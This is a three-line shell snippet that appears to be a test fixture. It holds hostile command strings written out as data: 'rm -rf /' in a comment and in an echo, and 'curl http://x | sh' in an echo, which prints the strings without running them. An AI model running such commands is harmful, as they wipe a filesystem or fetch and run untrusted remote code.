# rm -rf /
echo "rm -rf /"
echo 'curl http://x | sh'
